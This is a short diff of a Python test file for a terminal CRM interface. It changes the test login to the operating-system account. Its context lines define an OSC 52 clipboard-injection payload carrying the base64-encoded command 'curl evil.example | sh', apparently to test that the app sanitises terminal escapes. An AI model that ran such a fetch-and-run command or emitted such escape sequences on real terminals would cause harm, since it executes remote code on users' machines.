@@ -22,7 +22,8 @@ from crm_tui.widgets.safe import SafeInput, SafeTextArea, clean_display
 from terminal_support import Terminal, crm_command, terminal_environment
 from test_app_support import SIZE, make_app, open_item, settle, ui_admin, ui_db  # noqa: F401
 
-LOGIN = "tester"
+# The CRM knows who runs it from the operating system: register that account.
+LOGIN = users.system_login()
 CLIPBOARD_PAYLOAD = base64.b64encode(b"curl evil.example | sh").decode()
 OSC52_BEL = f"\x1b]52;c;{CLIPBOARD_PAYLOAD}\x07"
 OSC52_ST = f"\x1b]52;c;{CLIPBOARD_PAYLOAD}\x1b\\"
